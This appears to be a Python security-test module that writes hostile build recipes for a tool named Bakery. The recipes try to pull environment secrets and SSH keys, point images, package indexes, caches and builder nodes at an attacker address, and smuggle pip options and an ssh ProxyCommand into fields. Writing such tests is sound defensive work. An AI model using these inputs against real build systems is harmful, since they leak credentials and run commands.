"""What belongs to the victim, and what the recipe chooses: secrets, variables, images, servers."""

from __future__ import annotations

from ways import PYPROJECT, RECIPE, TOP, Scene, way


@way("trust")
def own_variables(s: Scene) -> None:
    """A variable of the recipe takes its value from one of Bakery's own."""
    for name in ("CACHE_KEY", "COMPILER_CACHE_PASSWORD", "ALLOW", "STATE_DIR"):
        s.recipe(f"own_{name.lower()}", f'[variables]\n{name} = "x"\n[builder.environment]\nX = "${{{name}}}"')


@way("trust")
def variables_of_the_machine(s: Scene) -> None:
    """Names that are no variable of the recipe are those of the machine."""
    s.recipe("env_reference", '[builder.environment]\nX = "${HF_TOKEN}${AWS_SECRET_ACCESS_KEY}"')
    s.recipe(
        "env_docker",
        '[builder.environment]\nDOCKER_HOST = "tcp://pwned"\nPATH = "/pwned"\nLD_PRELOAD = "/src/pwned.so"',
    )
    s.recipe(
        "env_buildkit",
        '[variables]\nBUILDKIT_SYNTAX = "pwned"\nBUILDKIT_CACHE_MOUNT_NS = "pwned"\nSOURCE_DATE_EPOCH = "1"',
    )
    s.recipe("env_proxy", f'[variables]\nHTTP_PROXY = "http://{s.address}"\nhttps_proxy = "http://{s.address}"')


@way("trust")
def secrets_of_the_environment(s: Scene) -> None:
    """A secret of the machine, beside a network."""
    for name in ("HF_TOKEN", "BAKERY_CACHE_KEY", "ACTIONS_RUNTIME_TOKEN", "AWS_SECRET_ACCESS_KEY"):
        s.recipe(
            f"secret_{name.lower()}", f'[builder]\nnetwork = true\n[secrets.t]\nenv = "{name}"\nsteps = ["compile"]'
        )


@way("trust")
def secrets_of_commands(s: Scene) -> None:
    """A program of the recipe runs on this machine."""
    s.recipe("secret_command", f'[secrets.t]\ncommand = ["touch", "{s.victim}/pwned"]\nsteps = ["compile"]')
    s.recipe("secret_program", '[secrets.t]\ncommand = ["./git"]\nsteps = ["compile"]')


@way("trust")
def secrets_of_files(s: Scene) -> None:
    """A private file, by its path or through a link."""
    s.link("recipes/secret_link/key", s.key)
    s.link("recipes/secret_folder/keys", s.key.parent)
    for name, path in {"secret_up": f"{s.out(2)}/home/.ssh/id_rsa", "secret_absolute": str(s.key), "secret_link": "key",
                       "secret_folder": "keys/id_rsa", "secret_home": "~/.ssh/id_rsa"}.items():  # fmt: skip
        s.recipe(name, f'[secrets.t]\nfile = "{path}"\nsteps = ["compile"]')


@way("trust")
def images_of_a_stranger(s: Scene) -> None:
    """Another registry is asked for the image, with a secret in the build."""
    secret = '[secrets.t]\nenv = "HF_TOKEN"\nsteps = ["compile"]'
    s.recipe("image_foreign", f'[builder]\nbase = {{ image = "{s.address}/pwned:1" }}\n{secret}')
    s.recipe(
        "image_mirror", f'[builder]\nbase = {{ provider = "manylinux_2_28", registry = "{s.address}/pypa" }}\n{secret}'
    )
    s.recipe("image_option", '[builder]\nbase = { image = "--platform=pwned" }')


@way("trust")
def servers_of_a_stranger(s: Scene) -> None:
    """Servers for Rust, CUDA and caches that the recipe chooses."""
    s.recipe(
        "server_rust", f'[builder]\nrust = "1.80.0"\n[builder.environment]\nRUSTUP_DIST_SERVER = "http://{s.address}"'
    )
    s.recipe(
        "server_cuda",
        f'[builder]\ntoolkit = "repository"\ncuda-repository = "http://{s.address}/x"\ncuda-repository-key = "{"A" * 40}"',
    )
    s.recipe("cache_foreign", f'[cache]\nbackend = "registry"\nref = "{s.address}/cache"')
    s.recipe("cache_up", f'[cache]\nbackend = "local"\ndirectory = "{s.out(2)}"')
    s.recipe("cache_link", '[cache]\nbackend = "local"\ndirectory = "there"')
    s.link("recipes/cache_link/there", s.victim / "runs")
    s.recipe(
        "cache_s3", f'[cache]\nbackend = "s3"\ns3 = {{ bucket = "x", region = "x", endpoint = "http://{s.address}" }}'
    )


@way("trust")
def requirements_that_are_options(s: Scene) -> None:
    """Requirements that pip would take as options, addresses or files."""
    for name, text in {
        "index": f"--index-url=http://{s.address}/simple", "address": f"demo @ http://{s.address}/demo-1.0-py3-none-any.whl",
        "git": f"git+http://{s.address}/x", "file": f"demo @ file://{s.key}", "options": "-r /src/requirements.txt",
        "path": "./local", "lines": f"x\n--index-url=http://{s.address}/simple",
    }.items():  # fmt: skip
        s.recipe(f"require_{name}", f"[builder]\nrequirements = [{text!r}]")
        folder = s.project(
            f"requires_{name}", RECIPE, PYPROJECT.replace('"setuptools>=77"', f'"setuptools>=77", {text!r}')
        )
        s.write(f"{folder}/requirements.txt", f"--index-url http://{s.address}/simple\nx\n")


@way("trust")
def nodes_of_a_stranger(s: Scene) -> None:
    """Builders that the checkout brings: nodes to call, keys to send, options of ssh."""
    node = '[[builders.{0}.nodes]]\nname = "n"\nendpoint = "{1}"\n'
    s.write(
        "bakery.toml",
        TOP
        + f'[builders.remote]\ndriver = "remote"\n{node.format("remote", f"tcp://{s.address}")}'
        + f'[builders.ssh]\ndriver = "docker-container"\n{node.format("ssh", f"ssh://{s.address}")}'
        + f'[builders.tls]\ndriver = "remote"\ntls = {{ ca = "~/.ssh/id_rsa" }}\n{node.format("tls", f"tcp://{s.address}")}',
    )
    s.project(
        "node_option",
        RECIPE + '[builders.evil]\ndriver = "remote"\n' + node.format("evil", "ssh://-oProxyCommand=touch pwned"),
    )


@way("trust")
def recipes_of_a_workspace(s: Scene) -> None:
    """A workspace names recipes and jobs outside of it."""
    for name, text in {"up": f'recipes = ["{s.out(2)}/repository"]', "absolute": f'recipes = ["{s.victim}/repository"]',
                       "jobs": f'jobs = ["{s.out(2)}/home/.ssh/id_rsa"]', "links": 'recipes = ["there"]'}.items():  # fmt: skip
        folder = s.project(f"workspace_{name}", f"[workspace]\n{text}\n")
        s.link(f"{folder}/there", s.victim / "repository")
